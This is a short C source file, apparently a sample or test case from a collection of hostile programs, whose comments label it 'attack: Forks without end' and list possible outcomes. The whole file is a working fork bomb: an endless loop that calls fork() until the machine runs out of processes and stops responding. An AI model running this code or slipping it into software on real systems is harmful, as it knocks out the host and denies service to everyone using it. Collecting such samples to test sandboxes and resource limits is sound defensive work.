// SPDX-License-Identifier: MIT
// attack: Forks without end.
// ends: played|deadline|broke|cancelled
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
